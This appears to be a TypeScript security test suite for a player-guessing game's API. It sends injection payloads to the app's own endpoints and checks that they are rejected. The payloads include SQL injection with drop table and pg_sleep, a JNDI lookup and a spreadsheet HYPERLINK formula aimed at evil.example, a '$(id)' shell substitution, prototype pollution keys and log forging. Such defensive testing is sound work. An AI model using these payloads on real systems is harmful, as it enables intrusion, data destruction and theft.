import type { Answer } from '../../fixtures/send.ts';
import { get, post, type Attack } from '../attack.ts';
import type { Target } from '../target.ts';

const GAME = '4f5cf5a0-3b62-4a2e-9c0f-0a8f6a3d9a11';
const encoded = encodeURIComponent;
const search = (q: string): string => `/api/players/search?q=${encoded(q)}`;

async function formulaInAnExport(target: Target): Promise<Answer> {
  const feedback = '=HYPERLINK("http://evil.example","Click me")';
  const body = { gameType: 'general', feedback, userEmail: 'canary.visitor@example.org' };
  const received = await target.as('stranger', '/api/feedback', { method: 'POST', from: '127.0.0.50', body });
  if (received.status !== 200) return received;
  const answer = await target.as('administrator', '/api/admin/feedback.csv');
  return { ...answer, status: /(?:^|[,"\n])=HYPERLINK/.test(answer.text) ? 500 : answer.status };
}

/** Fails if the search finds anything. */
const findsNobody = (q: string) => async (target: Target) => {
  const answer = await target.as('stranger', search(q), { from: '127.0.0.51' });
  return { ...answer, status: answer.status === 200 && answer.json<unknown[]>().length > 0 ? 500 : answer.status };
};

export const INJECTION: readonly Attack[] = [
  ['a condition that is always true', 'stranger', findsNobody("%' or '1'='1"), '200'],
  ['wildcards', 'stranger', findsNobody('%%'), '200'],
  ['a drop table statement', 'stranger', findsNobody("x'; drop table player; --"), '200'],
  ['a sleep function', 'stranger', findsNobody("x' and pg_sleep(10) is not null --"), '200'],
  ['a template expression', 'stranger', findsNobody('{{qqq*qqq}}${qqq*qqq}'), '200'],
  ['a JNDI lookup', 'stranger', findsNobody('${jndi:ldap://evil.example/a}'), '200'],
  ['a forged log line', 'stranger', findsNobody('x\n{"level":"fatal"}'), '200'],
  ['SQL as id', 'stranger', get(`/api/players/${encoded('1 or 1=1')}`), '404 request.notFound'],
  ['SQL as game id', 'stranger', get(`/api/game?gameId=${encoded("' union select 1 --")}`), '400 request.invalid'],
  ['SQL as page number', 'administrator', get('/api/admin/players?page=1+union+select+1'), '400 request.invalid'],
  [
    'a query operator as id',
    'stranger',
    post('/api/game/guess', { gameId: GAME, playerId: { $gt: 0 } }),
    '400 request.invalid',
  ],
  ['__proto__ as language', 'stranger', get('/api/nations?language=__proto__'), '400 request.invalid'],
  ['__proto__ as language of clubs', 'stranger', get('/api/club-names?language=__proto__'), '400 request.invalid'],
  ['constructor as plugin key', 'administrator', get('/api/admin/plugins/constructor'), '404 plugin.notFound'],
  ['a shell command as team id', 'administrator', get(`/api/admin/teams/${encoded('$(id)')}`), '404 request.notFound'],
  ['a formula in an export', 'administrator', formulaInAnExport, '200'],
  ['control characters in the request id', 'stranger', get('/api/games', { 'x-request-id': 'a\tb"}{' }), '200'],
];
